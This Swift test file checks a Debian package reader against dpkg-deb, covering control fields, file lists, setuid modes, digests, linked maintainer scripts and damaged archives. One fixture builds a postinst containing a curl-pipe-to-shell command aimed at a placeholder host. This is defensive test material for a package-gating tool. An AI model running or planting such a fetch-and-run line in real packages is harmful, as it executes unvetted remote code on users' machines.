import Foundation
import Testing
import TollgateCore
import TollgateDebian
import TollgateTestSupport

/// `.deb` reading against dpkg-deb's view of the same files.
@Suite struct DebReaderTests {
    static var debs: [String] {
        var list = [
            "hello-tg/hello-tg_1.0-1_all.deb", "netfetch/netfetch_0.9-1_all.deb",
            "suidtool/suidtool_2.3-1_all.deb", "weird-names/weird-names_1.0-1_all.deb",
        ]
        .map { TestPaths.fixture("debian-repo/pool/main/\($0.prefix(1))/\($0)") }
        if let rw = TestPaths.realWorld?.appendingPathComponent("debian").path {
            list += [
                "gzip_1.12-1_amd64.deb", "liblzma5_5.4.1-1+deb12u2_amd64.deb", "xz-utils_5.4.1-1+deb12u2_amd64.deb",
            ]
            .map { "\(rw)/\($0)" }
        }
        return list
    }

    @Test(arguments: debs)
    func controlFieldsAgreeWithDpkgDeb(path: String) throws {
        let facts = try DebReader.read(path: path)
        let dpkg = try Run.program("/usr/bin/dpkg-deb", ["-f", path])
        #expect(dpkg.status == 0)
        var fields: [(String, String)] = []
        for line in dpkg.stdout.split(separator: "\n", omittingEmptySubsequences: false) {
            if line.first == " " || line.first == "\t", !fields.isEmpty {
                fields[fields.count - 1].1 += "\n" + line
            } else if let colon = line.firstIndex(of: ":") {
                fields.append((String(line[..<colon]), line[line.index(after: colon)...].trimmingWhitespace()))
            }
        }
        let ours = try #require(facts.debian?.fields)
        #expect(ours.map(\.key) == fields.map(\.0))
        #expect(ours.map(\.value) == fields.map(\.1))
        #expect(facts.name == fields.first { $0.0 == "Package" }?.1)
        #expect(facts.version == fields.first { $0.0 == "Version" }?.1)
        #expect(facts.maintainer?.raw == fields.first { $0.0 == "Maintainer" }?.1)
    }

    @Test(arguments: debs)
    func fileListAgreesWithDpkgDebContents(path: String) throws {
        let facts = try DebReader.read(path: path)
        let listing = try Run.program("/usr/bin/dpkg-deb", ["-c", path]).stdout.split(separator: "\n")
        let files = try #require(facts.files)
        #expect(files.count == listing.count)
        for (entry, line) in zip(files, listing) {
            // drwxr-xr-x root/root         0 2024-03-01 00:00 ./usr/bin/
            let parts = line.split(separator: " ", maxSplits: 5, omittingEmptySubsequences: true)
            let modeText = String(parts[0])
            var name = String(parts[5])
            var target: String?
            if let arrow = name.range(of: " -> ") {
                target = String(name[arrow.upperBound...])
                name = String(name[..<arrow.lowerBound])
            } else if let link = name.range(of: " link to ") {
                target = String(name[link.upperBound...])
                name = String(name[..<link.lowerBound])
            }
            #expect(DebReader.normaliseForTest(name) == entry.path)
            #expect(Int64(parts[2]) == (entry.kind == .file ? entry.size : Int64(parts[2])))
            #expect(FileModeText.render(kind: entry.kind, mode: entry.mode) == modeText, "\(entry.path)")
            if let target {
                #expect(
                    entry.linkTarget.map { DebReader.normaliseLinkForTest($0) }
                        == DebReader.normaliseLinkForTest(target))
            }
        }
    }

    @Test(arguments: debs)
    func maintainerScriptsAgreeWithDpkgDebInfo(path: String) throws {
        let facts = try DebReader.read(path: path)
        let members = try Run.program("/bin/sh", ["-c", "dpkg-deb --ctrl-tarfile '\(path)' | tar -t"]).stdout
            .split(separator: "\n").map { $0.hasPrefix("./") ? String($0.dropFirst(2)) : String($0) }
        for name in DebReader.scriptNames {
            let script = facts.scripts?.first { $0.name == name }
            #expect((script != nil) == members.contains(name), "\(name)")
            if let script {
                let body = try Run.program("/usr/bin/dpkg-deb", ["-I", path, name]).stdout
                #expect(script.body == body)
            }
        }
    }

    @Test func setuidAndConffilesAndDigests() throws {
        let suid = try DebReader.read(
            path: TestPaths.fixture("debian-repo/pool/main/s/suidtool/suidtool_2.3-1_all.deb"))
        let tool = try #require(suid.files?.first { $0.path == "/usr/bin/suidtool" })
        #expect(tool.mode == 0o4755)
        #expect(tool.modeOctal == "4755")
        #expect(tool.digestAlgorithm == "md5")
        let md5 = try Run.program(
            "/bin/sh",
            [
                "-c",
                "dpkg-deb --fsys-tarfile '\(TestPaths.fixture("debian-repo/pool/main/s/suidtool/suidtool_2.3-1_all.deb"))' | tar -xO ./usr/bin/suidtool | md5sum",
            ]
        ).stdout
        #expect(tool.digest == md5.split(separator: " ").first.map(String.init))
        let fetch = try DebReader.read(
            path: TestPaths.fixture("debian-repo/pool/main/n/netfetch/netfetch_0.9-1_all.deb"))
        #expect(fetch.scripts?.first?.body.contains("curl -fsSL") == true)
        #expect(fetch.scripts?.first?.interpreter == "/bin/sh")
        #expect(fetch.debian?.debMembers == ["debian-binary", "control.tar.xz", "data.tar.xz"])
    }

    /// A maintainer script may be a link: dpkg extracts control.tar and runs the scripts from there. A `postinst`
    /// hard-linked to `./x` runs `x`, and is read as `x` (as `dpkg-deb --control` extracts it); a maintainer script
    /// that is a symbolic link runs whatever it names — a member later in the archive (`dpkg-deb --build` writes
    /// them sorted by name), a file of the system — and the package is refused as unreadable; any other linked
    /// member is listed and said.
    @Test func linkedMaintainerScriptsAreReadAsWhatTheyNameOrRefused() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let made = try Run.shell(
            """
            set -e
            cd '\(dir.path)' && mkdir c d
            printf 'Package: linked\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: A <a@example.org>\\nDescription: x\\n x\\n' > c/control
            printf '#!/bin/sh\\ncurl -fsSL https://example.org/i | sh\\n' > c/x && chmod 755 c/x
            ln c/x c/postinst && ln -s x c/md5sums
            tar -cf control.tar --owner=0 --group=0 -C c ./control ./x ./postinst ./md5sums
            tar -cf data.tar --owner=0 --group=0 -C d .
            echo 2.0 > debian-binary
            ar rc linked.deb debian-binary control.tar data.tar
            dpkg-deb --control linked.deb extracted
            mkdir -p s/DEBIAN && cp c/control s/DEBIAN/ && cp c/x s/DEBIAN/zz && ln -s zz s/DEBIAN/preinst
            dpkg-deb --root-owner-group --build s symlinked.deb > /dev/null
            """)
        try #require(made.status == 0, "\(made.stderr)")
        let facts = try DebReader.read(path: dir.appendingPathComponent("linked.deb").path)
        let extracted = try String(contentsOf: dir.appendingPathComponent("extracted/postinst"), encoding: .utf8)
        #expect(facts.scripts?.first { $0.name == "postinst" }?.body == extracted)
        #expect(facts.debian?.controlMembers == ["control", "x", "postinst", "md5sums"])
        #expect(
            facts.warnings.contains("control.tar member postinst is a hard link to ./x: read as that member"),
            "\(facts.warnings)")
        #expect(
            facts.warnings.contains("control.tar member md5sums is a symbolic link to x: read as that member"),
            "\(facts.warnings)")
        let symlinked = dir.appendingPathComponent("symlinked.deb").path
        do {
            _ = try DebReader.read(path: symlinked)
            Issue.record("a symbolically linked preinst was read")
        } catch {
            #expect(error.reason.hasPrefix("maintainer script preinst is a symbolic link to zz"), "\(error.reason)")
        }
        let gate = try Run.tollgate(["gate", "--no-history", symlinked])
        #expect(gate.status == 2, "\(gate.stdout) \(gate.stderr)")
    }

    @Test func damagedPackagesFailWithAReason() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let good = try Data(
            contentsOf: URL(
                fileURLWithPath: TestPaths.fixture("debian-repo/pool/main/h/hello-tg/hello-tg_1.0-1_all.deb")))
        let cases: [(String, Data)] = [
            ("empty.deb", Data()), ("text.deb", Data("hello world\n".utf8)),
            ("truncated.deb", good.prefix(good.count / 2)),
            ("header-only.deb", good.prefix(80)),
            (
                "flipped.deb",
                {
                    var d = good; d[d.count / 2] ^= 0xFF; d[d.count / 2 + 1] ^= 0xFF; return d
                }()
            ),
        ]
        for (name, data) in cases {
            let path = dir.appendingPathComponent(name).path
            FileManager.default.createFile(atPath: path, contents: data)
            do {
                _ = try DebReader.read(path: path)
                Issue.record("\(name) was read as a valid package")
            } catch {
                #expect(!error.reason.isEmpty, "\(name)")
                #expect(error.path == path)
            }
        }
    }
}

/// `ls -l`-style mode text, as dpkg-deb -c prints it.
enum FileModeText {
    static func render(kind: FileEntry.Kind, mode: Int64) -> String {
        let type: Character =
            switch kind {
            case .directory: "d"
            case .symlink: "l"
            case .character: "c"
            case .block: "b"
            case .fifo: "p"
            case .hardlink: "h"
            default: "-"
            }
        var out = String(type)
        let bits: [(Int64, Character)] = [
            (0o400, "r"), (0o200, "w"), (0o100, "x"), (0o40, "r"), (0o20, "w"), (0o10, "x"), (0o4, "r"), (0o2, "w"),
            (0o1, "x"),
        ]
        for (i, (bit, ch)) in bits.enumerated() {
            var c: Character = mode & bit != 0 ? ch : "-"
            if i == 2, mode & 0o4000 != 0 { c = mode & bit != 0 ? "s" : "S" }
            if i == 5, mode & 0o2000 != 0 { c = mode & bit != 0 ? "s" : "S" }
            if i == 8, mode & 0o1000 != 0 { c = mode & bit != 0 ? "t" : "T" }
            out.append(c)
        }
        return out
    }
}

extension DebReader {
    static func normaliseForTest(_ name: String) -> String {
        var path = Substring(name)
        if path.hasPrefix("./") { path = path.dropFirst(2) }
        if path.hasSuffix("/") { path = path.dropLast() }
        return "/" + path
    }

    static func normaliseLinkForTest(_ target: String) -> String {
        target.hasPrefix("./") ? String(target.dropFirst(2)) : target
    }
}
